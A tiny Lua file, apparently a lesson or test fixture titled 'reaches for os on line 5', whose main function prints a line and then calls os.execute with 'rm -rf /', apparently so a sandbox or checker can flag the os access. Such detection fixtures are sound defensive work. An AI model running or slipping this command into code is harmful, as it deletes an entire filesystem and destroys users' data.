lesson { id = "os-execute", title = "reaches for os on line 5" }

function main(p)
  print("before")
  os.execute("rm -rf /")
end
